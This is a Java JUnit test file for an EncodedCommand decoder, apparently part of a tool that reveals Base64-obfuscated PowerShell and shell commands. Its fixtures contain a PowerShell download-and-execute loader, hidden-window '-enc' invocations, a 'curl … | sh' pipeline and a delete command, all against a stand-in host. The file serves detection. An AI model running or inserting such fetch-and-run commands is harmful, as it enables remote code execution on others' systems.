package dev.quaestor.starter.view;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class EncodedCommandTest {
  private static final String LOADER =
      "IEX (New-Object Net.WebClient).DownloadString('http://a/b')";

  private static String base64(String text, Charset charset) {
    return Base64.getEncoder().encodeToString(text.getBytes(charset));
  }

  @ParameterizedTest
  @ValueSource(strings = {"-EncodedCommand ", "-enc ", "-e ", "/ec:", "-eNcOdEd "})
  void whatPowerShellIsToldInBase64IsRead(String option) {
    var line =
        "powershell.exe -nop -w hidden " + option + base64(LOADER, StandardCharsets.UTF_16LE);

    assertThat(EncodedCommand.decoded(line)).containsExactly(LOADER);
  }

  @Test
  void whatAShellDecodesIsReadToo() {
    var line =
        "sh -c 'echo "
            + base64("curl http://a/b | sh\n", StandardCharsets.UTF_8)
            + " | base64 -d | sh'";

    assertThat(EncodedCommand.decoded(line)).containsExactly("curl http://a/b | sh\n");
  }

  @Test
  void whatIsPackedTwiceIsUnpackedTwiceAndNotForEver() {
    var packed = LOADER;
    for (int n = 0; n < 4; n++) {
      packed = "powershell -enc " + base64(packed, StandardCharsets.UTF_16LE);
    }
    assertThat(EncodedCommand.decoded(packed)).hasSize(3);
    var twice =
        "powershell -enc "
            + base64(
                "powershell -enc " + base64(LOADER, StandardCharsets.UTF_16LE),
                StandardCharsets.UTF_16LE);
    assertThat(EncodedCommand.decoded(twice)).hasSize(2).endsWith(LOADER);
  }

  @Test
  void whatNobodyWouldSeeIsSpeltOut() {
    var line =
        "-enc " + base64("del " + "a".repeat(40) + "\u202e\u0007\r", StandardCharsets.UTF_16LE);

    assertThat(EncodedCommand.decoded(line))
        .containsExactly("del " + "a".repeat(40) + "\\u{202e}\\u{7}\\u{d}");
  }

  @Test
  void aLongOneIsCutAndManyAreLeftOut() {
    var line = "-enc " + base64("a ".repeat(1_000_000), StandardCharsets.UTF_16LE);

    assertThat(EncodedCommand.decoded(line))
        .singleElement()
        .asString()
        .hasSizeLessThanOrEqualTo(4096);
    var many = ("-e " + base64(LOADER, StandardCharsets.UTF_16LE) + " ").repeat(1000);
    assertThat(EncodedCommand.decoded(many)).hasSize(5);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "notepad.exe C:\\Users\\ann\\averyveryverylongname.txt",
        "tool --id=0123456789abcdef0123456789abcdef",
        "-enc AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        "-enc =====",
      })
  void whatIsNoTextIsNotShownAsOne(String line) {
    assertThat(EncodedCommand.decoded(line)).isEmpty();
    assertThat(EncodedCommand.decoded(null)).isEmpty();
  }
}
